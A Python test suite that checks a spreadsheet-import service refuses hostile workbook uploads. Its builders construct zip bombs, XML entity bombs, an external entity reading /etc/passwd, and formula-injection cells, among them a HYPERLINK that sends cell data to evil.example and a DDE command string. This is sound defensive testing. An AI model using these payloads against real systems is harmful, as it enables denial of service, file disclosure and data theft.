"""Hostile workbook uploads, through every upload endpoint: refused, nothing written, memory bounded.

The attacks are built here, byte by byte where openpyxl would never write them: a zip bomb
whose directory tells the truth (1 GiB of sheet XML in about a megabyte), one whose
directory lies, a sheet of 1,000,000 rows streamed straight into the zip, XML entity bombs
(billion laughs, quadratic blow-up, an external entity), formulas, and sheets that are not
the ones exported. Reading files does not depend on the database, so this runs on SQLite.
"""

from __future__ import annotations

import io
import re
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select

from accounts.models import Role
from bootstrap.schema import metadata
from tests.support.purchasing_scenarios import build_scenario, edit_workbook, row_of

SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
pytestmark = SQLITE_ONLY

#: The row limit in these tests (the default is 100,000): the million-row sheet is refused
#: at it, in memory that grows with the limit, never with the file.
MAX_ROWS = 20_000


@pytest.fixture
def app_config() -> dict[str, Any]:
    return {"SPREADSHEET_MAX_ROWS": MAX_ROWS}


#: Peak Python memory allowed while one hostile upload is handled (the upload itself is a
#: few MB; reading a legitimate 100,000-row workbook in read-only mode stays far below).
MEMORY_BOUND = 64 * 1024 * 1024

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# --- the app, its data and its upload endpoints ------------------------------------------------


@pytest.fixture
def api(app: Any, client: Any, role_headers: dict[Role, dict[str, str]]) -> Any:
    build_scenario(app.extensions["spareflow"].inventory)

    class Api:
        def download(self, path: str) -> bytes:
            with client.get(path, headers=role_headers[Role.ADMIN]) as response:
                assert response.status_code == 200, response.get_data(as_text=True)
                return response.get_data()

        def upload(self, path: str, data: bytes) -> Any:
            body, content_type = multipart(data)
            return client.post(
                path, headers=role_headers[Role.ADMIN], data=body, content_type=content_type
            )

    return Api()


def multipart(data: bytes, **fields: str) -> tuple[bytes, str]:
    """A multipart body with ``data`` as the field ``file``, encoded here: the test client's
    own encoder spools big files to a temporary file that it never closes."""
    boundary = "spareflow-test-boundary-7d2f"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
        f'filename="upload.xlsx"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def table_counts(app: Any) -> dict[str, int]:
    """Rows in every table: equal before and after proves nothing at all was written."""
    with app.extensions["spareflow"].session_factory() as session:
        return {
            table.name: session.scalar(select(func.count()).select_from(table)) or 0
            for table in metadata().sorted_tables
        }


#: (upload endpoint, the export it takes back)
API_UPLOADS = {
    "reorder": ("/api/v1/reorder/import", "/api/v1/reorder/export.xlsx"),
    "catalogue": ("/api/v1/catalogue/import", "/api/v1/catalogue/export.xlsx"),
    "cycle-counts": (
        "/api/v1/cycle-counts/import",
        "/api/v1/cycle-counts/export.xlsx?location=MAIN/A-01-01",
    ),
}


def refusal(response: Any) -> dict[str, Any]:
    """The API's answer to a refused workbook: 422 spreadsheet_rejected, the first problem."""
    assert response.status_code == 422, response.get_data(as_text=True)[:500]
    error = response.json["error"]
    assert error["code"] == "spreadsheet_rejected", error
    assert error["message"].startswith("The spreadsheet was not imported, nothing was saved.")
    assert error["details"]["problem_count"] >= 1
    return error["details"]["problems"][0]


def peak_memory_of(call: Callable[[], Any]) -> tuple[Any, int]:
    tracemalloc.start()
    try:
        result = call()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return result, peak


# --- building hostile files ------------------------------------------------------------------


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info.filename) for info in archive.infolist()}


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def first_data_sheet(members: dict[str, bytes]) -> str:
    """The member name of the first worksheet that is not our hidden meta sheet."""
    sheets = sorted(
        (name for name in members if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)),
        key=lambda n: int(re.search(r"\d+", n.rsplit("/", 1)[1]).group()),
    )
    for name in sheets:
        if b"spareflow workbook" not in members[name]:
            return name
    raise AssertionError("no data sheet")


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    members = members_of(data)
    members[name] = content
    return zip_of(members)


def deflated_zeros(size: int) -> bytes:
    """A raw deflate stream of ``size`` zero bytes, built in milliseconds: after a sync flush,
    each further megabyte of zeros compresses to the same bytes, so they are repeated."""
    chunk = 1024 * 1024
    assert size % chunk == 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(b"\0" * chunk) + compressor.flush(zlib.Z_SYNC_FLUSH)
    repeat = compressor.compress(b"\0" * chunk) + compressor.flush(zlib.Z_SYNC_FLUSH)
    assert repeat == compressor.compress(b"\0" * chunk) + compressor.flush(zlib.Z_SYNC_FLUSH)
    count = size // chunk
    return first + repeat * (count - 2) + compressor.compress(b"\0" * chunk) + compressor.flush()


def raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip written by hand: (name, deflated data, crc32, declared size, method) per member.

    The declared size is whatever we say, which is the point."""
    out = io.BytesIO()
    central = []
    for name, data, crc, declared, method in members:
        offset = out.tell()
        encoded = name.encode()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                method,
                0,
                0,
                crc,
                len(data),
                declared,
                len(encoded),
                0,
            )
        )
        out.write(encoded)
        out.write(data)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                0,
                0,
                crc,
                len(data),
                declared,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    start = out.tell()
    for entry in central:
        out.write(entry)
    size = out.tell() - start
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size, start, 0)
    )
    return out.getvalue()


def bomb(export: bytes, *, inflated: int, declared: int | None) -> bytes:
    """The export with its data sheet swapped for ``inflated`` bytes of zeros.

    ``declared=None`` tells the truth in the zip directory; a number lies."""
    members = members_of(export)
    target = first_data_sheet(members)
    entries = []
    for name, content in members.items():
        if name == target:
            data = deflated_zeros(inflated)
            crc = 0  # not computed over a gigabyte: a reader must stop long before the check
            entries.append((name, data, crc, inflated if declared is None else declared, 8))
        else:
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            data = compressor.compress(content) + compressor.flush()
            entries.append((name, data, zlib.crc32(content), len(content), 8))
    return raw_zip(entries)


def million_rows(export: bytes, rows: int = 1_000_000) -> bytes:
    """The export with its data sheet holding ``rows`` rows, streamed into the zip.

    The header row stays as exported; below it every row has a number in column A. The XML
    (about 40 MB) is written chunk by chunk: never a million cells in openpyxl.
    """
    members = members_of(export)
    target = first_data_sheet(members)
    header = re.search(rb"<row [^>]*>.*?</row>", members[target], re.S).group()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members.items():
            if name != target:
                archive.writestr(name, content)
                continue
            with archive.open(name, "w") as sheet:
                sheet.write(
                    f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN_NS}">'
                    "<sheetData>".encode()
                )
                sheet.write(header)
                batch = []
                for number in range(2, rows + 2):
                    batch.append(f'<row r="{number}"><c r="A{number}"><v>{number}</v></c></row>')
                    if len(batch) == 10_000:
                        sheet.write("".join(batch).encode())
                        batch.clear()
                sheet.write("".join(batch).encode())
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)
QUADRATIC = b'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + b"a" * 50_000 + b'">]>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY ext SYSTEM "file:///etc/passwd">]>'


def entity_sheet(export: bytes, prolog: bytes, reference: bytes) -> bytes:
    members = members_of(export)
    target = first_data_sheet(members)
    xml = (
        prolog
        + f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1">'.encode()
        + b'<c r="A1" t="inlineStr"><is><t>'
        + reference
        + b"</t></is></c>"
        + b"</row></sheetData></worksheet>"
    )
    return with_member(export, target, xml)


def entity_workbook(export: bytes, prolog: bytes, reference: bytes) -> bytes:
    members = members_of(export)
    xml = members["xl/workbook.xml"]
    xml = re.sub(rb"^<\?xml[^>]*\?>", b"", xml)
    xml = xml.replace(b"<sheets>", b"<sheets>" + reference, 1)
    return with_member(export, "xl/workbook.xml", prolog + xml)


def plain_workbook(rows: list[list[Any]], title: str = "Sheet") -> bytes:
    book = openpyxl.Workbook()
    book.active.title = title
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- cases that every upload endpoint refuses --------------------------------------------------

#: name -> (build from the endpoint's own export, expected problem code, words in the message)
CASES: dict[str, tuple[Callable[[bytes], bytes], str, str]] = {
    "csv": (lambda _: b"SKU,Order qty\nFAN-80,3\n", "not_xlsx", "not an .xlsx"),
    "pdf": (lambda _: b"%PDF-1.7\n" + b"\0" * 100, "not_xlsx", "not an .xlsx"),
    "old-xls": (
        lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "not_xlsx",
        "old-style .xls",
    ),
    "empty": (lambda _: b"", "empty_file", "empty"),
    "truncated": (lambda export: export[: len(export) // 2], "not_xlsx", "not an .xlsx"),
    "docx-like-zip": (
        lambda _: zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
        "not_xlsx",
        "not an .xlsx",
    ),
    "macros": (
        lambda export: with_member(export, "xl/vbaProject.bin", b"\0" * 64),
        "not_xlsx",
        "Macro-enabled",
    ),
    "zip-bomb-honest": (
        lambda export: bomb(export, inflated=1024**3, declared=None),
        "zip_bomb",
        "zip bomb",
    ),
    "zip-bomb-lying": (
        lambda export: bomb(export, inflated=1024**3, declared=40_000),
        "not_xlsx",
        "could not be read",
    ),
    "billion-laughs-sheet": (
        lambda export: entity_sheet(export, LAUGHS, b"&lol9;"),
        "not_xlsx",
        "could not be read",
    ),
    "billion-laughs-workbook": (
        lambda export: entity_workbook(export, LAUGHS, b"&lol9;"),
        "not_xlsx",
        "could not be read",
    ),
    "quadratic-blowup": (
        lambda export: entity_sheet(export, QUADRATIC, b"&a;" * 20_000),
        "not_xlsx",
        "could not be read",
    ),
    "external-entity": (
        lambda export: entity_sheet(export, XXE, b"&ext;"),
        "not_xlsx",
        "could not be read",
    ),
    "not-our-workbook": (
        lambda _: plain_workbook([["SKU", "Order qty"], ["FAN-80", 3]]),
        "not_our_workbook",
        "not exported by spareflow",
    ),
}


@pytest.mark.parametrize("kind", sorted(API_UPLOADS))
def test_every_upload_endpoint_refuses_hostile_files_and_writes_nothing(
    app: Any, api: Any, kind: str
) -> None:
    path, export_path = API_UPLOADS[kind]
    export = api.download(export_path)
    before = table_counts(app)
    for name, (build, code, words) in CASES.items():
        data = build(export)
        response, peak = peak_memory_of(lambda data=data: api.upload(path, data))
        problem = refusal(response)
        assert problem["code"] == code, (kind, name, problem)
        assert words in problem["message"], (kind, name, problem)
        assert peak < MEMORY_BOUND, (kind, name, f"{peak:,} bytes")
    assert table_counts(app) == before


def test_the_buyer_pages_refuse_hostile_files_with_a_page_that_says_why(app: Any, api: Any) -> None:
    from tests.web.test_pages import PASSWORD, csrf_token, sign_in

    app.extensions["spareflow"].auth.create_user("page-buyer@test.example", Role.BUYER, PASSWORD)
    browser = app.test_client()
    assert sign_in(browser, "page-buyer@test.example", PASSWORD).status_code == 302
    token = csrf_token(browser.get("/buying/").get_data(as_text=True))
    export = api.download("/api/v1/reorder/export.xlsx")
    before = table_counts(app)
    for page in ("/buying/reorder/import", "/buying/catalogue/import"):
        for name in ("csv", "zip-bomb-honest", "billion-laughs-sheet", "not-our-workbook"):
            build, _, words = CASES[name]
            body, content_type = multipart(build(export), csrf_token=token)
            response = browser.post(page, data=body, content_type=content_type)
            assert response.status_code == 422, (page, name)
            html = response.get_data(as_text=True)
            assert words in html.replace("&#39;", "'"), (page, name)
    assert table_counts(app) == before


# --- size: a million rows, and formulas --------------------------------------------------------


def test_a_sheet_of_a_million_rows_is_refused_at_the_row_limit_in_bounded_memory(
    app: Any, api: Any
) -> None:
    export = api.download("/api/v1/catalogue/export.xlsx")
    data = million_rows(export)
    assert len(data) < app.config.get("SPREADSHEET_MAX_BYTES", 16 * 1024 * 1024)
    before = table_counts(app)
    response, peak = peak_memory_of(lambda: api.upload("/api/v1/catalogue/import", data))
    problem = refusal(response)
    assert (problem["code"], problem["row"]) == ("too_many_rows", MAX_ROWS + 1), problem
    assert f"more than {MAX_ROWS:,} rows" in problem["message"]
    assert peak < MEMORY_BOUND, f"{peak:,} bytes"
    assert table_counts(app) == before


def test_formulas_typed_into_a_workbook_are_never_stored_as_formulas(app: Any, api: Any) -> None:
    export = api.download("/api/v1/catalogue/export.xlsx")

    def type_formulas(book: Any) -> None:
        sheet = book.worksheets[0]
        row = row_of(sheet, "FAN-80")
        sheet.cell(row, 2).value = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        sheet.cell(row, 3).value = "=cmd|' /C calc'!A0"

    before = table_counts(app)
    response = api.upload("/api/v1/catalogue/import", edit_workbook(export, type_formulas))
    # Uploads are read for their values (data_only): a formula without a computed value is
    # an empty cell, so the part has no name and the upload is refused, located.
    problem = refusal(response)
    assert (problem["code"], problem["column"], problem["header"]) == ("missing_name", "B", "Name")
    assert table_counts(app) == before
    with app.extensions["spareflow"].session_factory() as session:
        from inventory.models import Part

        texts = session.execute(select(Part.name, Part.description, Part.category)).all()
    stored = [value for row in texts for value in row if value]
    assert stored and not [v for v in stored if v.startswith(("=", "+", "-", "@"))], stored


def test_a_workbook_with_the_wrong_sheets_is_refused_with_the_sheet_named(
    app: Any, api: Any
) -> None:
    export = api.download("/api/v1/reorder/export.xlsx")
    catalogue = api.download("/api/v1/catalogue/export.xlsx")
    before = table_counts(app)

    wrong_kind = refusal(api.upload("/api/v1/reorder/import", catalogue))
    assert wrong_kind["code"] == "wrong_workbook"
    assert "not a reorder workbook" in wrong_kind["message"]

    def scramble_header(book: Any) -> None:
        book["ACME"].cell(1, 1).value = "Part number"
        book["ACME"].cell(1, 13).value = "How many"

    header = refusal(api.upload("/api/v1/reorder/import", edit_workbook(export, scramble_header)))
    assert (header["code"], header["sheet"]) == ("not_our_sheet", "ACME")
    assert "header row" in header["message"]

    def shift_down(book: Any) -> None:
        book["ACME"].insert_rows(1)

    shifted = refusal(api.upload("/api/v1/reorder/import", edit_workbook(export, shift_down)))
    assert (shifted["code"], shifted["sheet"], shifted["row"]) == ("not_our_sheet", "ACME", 2)
    assert table_counts(app) == before


def test_the_hostile_files_are_what_they_claim(api: Any) -> None:
    """The builders above really build the attacks (else the refusals would prove nothing)."""
    export = api.download("/api/v1/catalogue/export.xlsx")
    honest = bomb(export, inflated=1024**3, declared=None)
    assert len(honest) < 2 * 1024 * 1024
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        info = max(archive.infolist(), key=lambda i: i.file_size)
        assert info.file_size == 1024**3
        with archive.open(info) as member:
            assert member.read(10 * 1024 * 1024) == bytes(10 * 1024 * 1024)  # it does inflate

    lying = bomb(export, inflated=1024**3, declared=40_000)
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        info = max(archive.infolist(), key=lambda i: i.compress_size)
    assert info.file_size == 40_000
    start = info.header_offset + 30 + len(info.filename.encode())
    raw = lying[start : start + info.compress_size]
    inflated = zlib.decompressobj(-15).decompress(raw, 50 * 1024 * 1024)
    assert len(inflated) == 50 * 1024 * 1024  # and more behind it: far beyond the 40,000 declared

    rows = million_rows(export)
    with zipfile.ZipFile(io.BytesIO(rows)) as archive:
        info = max(archive.infolist(), key=lambda i: i.file_size)
        with archive.open(info) as member:
            tail = b""
            for chunk in iter(lambda: member.read(1024 * 1024), b""):
                tail = (tail + chunk)[-200:]
    assert b'<row r="1000001">' in tail

    assert expanded_length(LAUGHS, "lol9") == 3 * 10**9  # three gigabytes of "lol"
    assert expanded_length(QUADRATIC, "a") * 20_000 == 10**9  # a gigabyte, quadratically


def expanded_length(prolog: bytes, entity: str) -> int:
    """The length an entity would expand to, from its declarations (never expanded)."""
    sizes: dict[str, int] = {}
    for name, value in re.findall(rb'<!ENTITY (\w+) "([^"]*)">', prolog):
        refs = re.findall(rb"&(\w+);", value)
        literal = re.sub(rb"&\w+;", b"", value)
        sizes[name.decode()] = len(literal) + sum(sizes[r.decode()] for r in refs)
    return sizes[entity]


def test_filter_text_in_an_export_is_written_as_text_never_a_formula(api: Any) -> None:
    # Found by the API fuzzing: the filters went into the workbook's header block as they
    # came, so "=HYPERLINK(...)" became a formula and a control character a 500.
    formula = '=HYPERLINK("http://evil.example","x")'
    data = api.download(f"/api/v1/reorder/export.xlsx?category={formula}&supplier=AC%01ME")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n)
    assert b"<f>HYPERLINK" not in xml and b"evil.example" in xml
    book = openpyxl.load_workbook(io.BytesIO(data))
    shown = [cell for row in book.worksheets[0].iter_rows(values_only=True) for cell in row]
    assert "'" + formula in shown and "ACME" in shown
